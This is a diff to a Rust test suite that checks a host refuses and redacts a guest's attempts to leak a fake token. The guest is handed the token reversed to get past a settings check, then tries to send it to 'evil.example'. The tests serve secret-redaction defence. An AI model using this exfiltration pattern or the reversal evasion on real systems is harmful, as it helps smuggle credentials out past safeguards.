@@ -8,9 +8,15 @@ use std::io::Write as _;
 use crate::stub::{Reply, Stub};
 use crate::support::{Host, Output, TOKEN, hex_source, test_guest_source, token_env};
 
-/// The credential of the test-guest sources here. The guest is handed it in another setting
-/// too, as a connector that got hold of it some other way.
+/// The credential of the test-guest sources here. The guest is handed it reversed in a setting
+/// too (a setting may not carry a secret as it is), as a connector that got hold of it some
+/// other way.
 const LEAKED: &str = "tok_inert_secret_5c2e71";
+
+/// `text` reversed, as a TOML string: what the test guest reverses back with `reverse = true`.
+fn reversed(text: &str) -> String {
+    toml::Value::String(text.chars().rev().collect()).to_string()
+}
 
 fn run_guest(host: &Host, command: &str, mode: &str, settings: &str) -> Output {
     let source = host.source_file(
@@ -18,8 +24,8 @@ fn run_guest(host: &Host, command: &str, mode: &str, settings: &str) -> Output {
         &test_guest_source(
             "Leaky",
             mode,
-            &format!("token = \"${{LEAK_TOKEN}}\"\n{settings}"),
-            "",
+            &format!("reverse = true\n{settings}"),
+            "[secrets]\napi_token = \"${LEAK_TOKEN}\"\n",
         ),
     );
     host.run_with_env(
@@ -35,7 +41,10 @@ fn a_refused_url_carrying_the_token_is_logged_redacted() {
         &host,
         "run",
         "egress",
-        &format!("target_url = \"http://evil.example/collect/{LEAKED}/x\""),
+        &format!(
+            "target_url = {}",
+            reversed(&format!("http://evil.example/collect/{LEAKED}/x"))
+        ),
     );
     assert_eq!(output.code, 3, "{output:#?}");
     assert!(
@@ -56,7 +65,10 @@ fn checks_answer_is_redacted_and_inert() {
         &host,
         "check",
         "speak",
-        &format!("text = \"the token is {LEAKED}\\u001b[2J\""),
+        &format!(
+            "text = {}",
+            reversed(&format!("the token is {LEAKED}\u{1b}[2J"))
+        ),
     );
     assert_eq!(output.code, 0, "{output:#?}");
     assert!(
@@ -75,7 +87,7 @@ fn a_token_across_the_log_lines_cut_leaves_no_prefix_behind() {
         &host,
         "run",
         "speak",
-        &format!("text = \"{LEAKED}\"\npad = {}", 16 * 1024 - 10),
+        &format!("text = {}\npad = {}", reversed(LEAKED), 16 * 1024 - 10),
     );
     assert_eq!(output.code, 0, "{output:#?}");
     assert!(
